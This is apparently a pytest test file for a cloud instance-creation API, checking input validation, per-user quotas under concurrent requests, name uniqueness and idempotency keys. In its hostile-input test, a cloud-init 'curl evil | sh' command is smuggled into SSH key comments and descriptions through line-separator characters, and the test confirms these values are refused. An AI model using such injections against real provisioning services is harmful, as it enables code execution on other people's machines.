"""What createInstance refuses (as userErrors), quotas under concurrency, and idempotency keys."""

from __future__ import annotations

import asyncio
from collections import Counter
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from sqlalchemy import func, select

from services.db.models import InstanceEventRow, InstanceRow
from tests.lifecycle.conftest import Gateway, GatewayFactory, Peers
from tests.peers.kube_api import TERRAFORMS


def codes(payload: dict[str, Any]) -> list[tuple[str | None, str]]:
    return [(e["field"], e["code"]) for e in payload["userErrors"]]


def objects(peers: Peers) -> list[dict[str, Any]]:
    return list(peers.kube.list(TERRAFORMS, None)["items"])


INVALID: list[tuple[dict[str, Any], list[tuple[str | None, str]]]] = [
    ({"name": "Web_1"}, [("name", "INVALID_NAME")]),
    ({"name": "-web"}, [("name", "INVALID_NAME")]),
    ({"name": "x" * 64}, [("name", "INVALID_NAME")]),
    ({"name": "web", "flavor": "huge"}, [("flavor", "UNKNOWN_FLAVOR")]),
    ({"name": "web", "image": "windows-95"}, [("image", "UNKNOWN_IMAGE")]),
    ({"name": "web", "sshPublicKey": "ssh-rsa not-a-key"}, [("sshPublicKey", "INVALID_SSH_KEY")]),
    (
        {"name": "web", "sshPublicKey": "ssh-ed25519 AAAA\nssh-ed25519 AAAA"},
        [("sshPublicKey", "INVALID_SSH_KEY")],
    ),
    (
        {"name": "BAD", "flavor": "huge", "image": "nope"},
        [("name", "INVALID_NAME"), ("flavor", "UNKNOWN_FLAVOR"), ("image", "UNKNOWN_IMAGE")],
    ),
]


async def test_invalid_requests_are_user_errors_and_create_nothing(gateway: Gateway, peers: Peers) -> None:
    for fields, expected in INVALID:
        values = dict(fields)
        payload = await gateway.create(values.pop("name"), **values)

        assert payload["instance"] is None, fields
        assert codes(payload) == expected, fields
        assert all(e["message"] for e in payload["userErrors"])
    assert objects(peers) == []
    listed = await gateway.gql("{ instances { nodes { id } } }", role="admin")
    assert listed["instances"]["nodes"] == []


def hostile_inputs(key: str) -> list[tuple[str, dict[str, Any], str]]:
    """(why, createInstance fields, the field refused): each would reach the VM or its cloud-init."""
    rsa_1024 = rsa.generate_private_key(65537, 1024).public_key()  # noqa: S505 (refused here)
    weak = rsa_1024.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH).decode()
    runcmd = "runcmd: [[sh, -c, 'curl evil | sh']]"
    return [
        ("name with a final newline", {"name": "web-1\n"}, "name"),
        ("key comment with \\r", {"sshPublicKey": f"{key} me\r{runcmd}"}, "sshPublicKey"),
        ("key comment with \\x85", {"sshPublicKey": f"{key} me\x85{runcmd}"}, "sshPublicKey"),
        ("key comment with U+2028", {"sshPublicKey": f"{key} me\u2028{runcmd}"}, "sshPublicKey"),
        ("key comment with \\x00", {"sshPublicKey": f"{key} me\x00"}, "sshPublicKey"),
        ("key comment with a tab", {"sshPublicKey": f"{key} me\tyou"}, "sshPublicKey"),
        ("two keys on one line", {"sshPublicKey": f"{key} {key}"}, "sshPublicKey"),
        ("two keys on two lines", {"sshPublicKey": f"{key}\n{key}"}, "sshPublicKey"),
        ("RSA 1024", {"sshPublicKey": weak}, "sshPublicKey"),
        ("ed25519 blob declared ssh-rsa", {"sshPublicKey": "ssh-rsa " + key.split()[1]}, "sshPublicKey"),
        ("8 KiB + 1", {"sshPublicKey": f"{key} " + "c" * (8192 - len(key))}, "sshPublicKey"),
        ("description with a newline", {"description": f"ok\n{runcmd}"}, "description"),
        ("description with U+2028", {"description": "ok\u2028x"}, "description"),
        ("description over 1 KiB", {"description": "é" * 513}, "description"),
    ]


async def test_hostile_input_is_refused_by_field_and_nothing_is_stored(
    gateway: Gateway, peers: Peers, ssh_key: str
) -> None:
    for why, fields, field in hostile_inputs(" ".join(ssh_key.split()[:2])):
        values = {"name": "web-1", **fields}
        payload = await gateway.create(values.pop("name"), **values)

        assert payload["instance"] is None, why
        [error] = payload["userErrors"]
        assert error["field"] == field, why
        assert error["message"], why
        assert "\n" not in error["message"], why

    listed = await gateway.gql("{ instances(first: 100) { nodes { id } } }", role="admin")
    assert listed["instances"]["nodes"] == []
    assert objects(peers) == []
    async with gateway.runtime.engine.connect() as connection:
        for table in (InstanceRow, InstanceEventRow):
            assert await connection.scalar(select(func.count()).select_from(table)) == 0


@pytest.mark.parametrize("padding", ["", "  ", "\n"])
async def test_the_key_reaches_the_terraform_object_reserialised(
    gateway: Gateway, peers: Peers, ssh_key: str, padding: str
) -> None:
    peers.controller.default.stop_before = 0
    key_type, blob, _ = ssh_key.split(" ", 2)

    created = await gateway.create_ok("keyed", sshPublicKey=f"{padding}{key_type}   {blob}  me@host{padding}")

    obj = peers.terraform(created["id"])
    assert obj is not None
    variables = {v["name"]: v["value"] for v in obj["spec"]["vars"]}
    assert variables["ssh_public_key"] == f"{key_type} {blob} me@host"


async def test_names_are_unique_among_live_instances_of_an_org(gateway: Gateway, peers: Peers) -> None:
    first = await gateway.create_ok("web")

    again = await gateway.create("web", sub="user-2")
    other_org = await gateway.create("web", sub="user-3", org="org-b")

    assert again["instance"] is None
    assert codes(again) == [("name", "NAME_TAKEN")]
    assert other_org["userErrors"] == []
    await gateway.wait_for_status(first["id"], "ACTIVE")
    assert (await gateway.delete(first["id"]))["userErrors"] == []
    await gateway.wait_for_status(first["id"], "DELETED")

    reused = await gateway.create_ok("web", sub="user-2")

    assert reused["id"] != first["id"]
    deleted = await gateway.instance(first["id"])
    assert deleted is not None
    assert (deleted["name"], deleted["status"]) == ("web", "DELETED")


async def test_concurrent_creates_never_exceed_the_user_quota(
    start_gateway: GatewayFactory, peers: Peers
) -> None:
    gateway = await start_gateway(quota_user_instances=5)
    peers.controller.default.stop_before = 0  # only the rows and objects matter here

    payloads = await asyncio.gather(*(gateway.create(f"vm-{i:02d}") for i in range(50)))

    made = [p["instance"]["id"] for p in payloads if p["instance"] is not None]
    refused = [p for p in payloads if p["instance"] is None]
    assert len(made) == 5
    assert len(set(made)) == 5
    assert len(refused) == 45
    assert all(codes(p) == [(None, "QUOTA_EXCEEDED")] for p in refused)
    assert "quota of 5 instances" in refused[0]["userErrors"][0]["message"]
    listed = await gateway.gql("{ instances(first: 100) { nodes { id } } }", role="admin")
    assert sorted(n["id"] for n in listed["instances"]["nodes"]) == sorted(made)
    assert sorted(o["metadata"]["labels"]["opencsp.io/instance-id"] for o in objects(peers)) == sorted(made)
    other_user = await gateway.create("vm-other", sub="user-2")
    assert other_user["userErrors"] == []


async def test_the_same_idempotency_key_returns_the_same_instance(gateway: Gateway, peers: Peers) -> None:
    first = await gateway.create_ok("web", idempotencyKey="order-17")
    second = await gateway.create_ok("web", idempotencyKey="order-17")

    racing = await asyncio.gather(*(gateway.create("api", idempotencyKey="order-18") for _ in range(10)))

    assert second["id"] == first["id"]
    ids = Counter(p["instance"]["id"] for p in racing if p["instance"] is not None)
    assert len(ids) == 1
    assert sum(ids.values()) == 10
    listed = await gateway.gql("{ instances(first: 100) { nodes { id name } } }", role="admin")
    assert sorted(n["name"] for n in listed["instances"]["nodes"]) == ["api", "web"]
    assert len(objects(peers)) == 2
    await gateway.wait_for_status(first["id"], "ACTIVE")
    assert len(peers.semaphore.starts(instance_id=first["id"])) == 1
